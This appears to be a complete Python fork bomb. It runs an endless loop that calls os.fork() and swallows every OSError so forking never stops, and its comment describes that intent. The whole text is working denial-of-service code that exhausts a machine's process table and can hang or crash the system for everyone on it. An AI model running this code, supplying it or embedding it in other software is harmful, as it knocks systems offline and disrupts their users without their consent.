# Forks until it may not, and then tries again.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
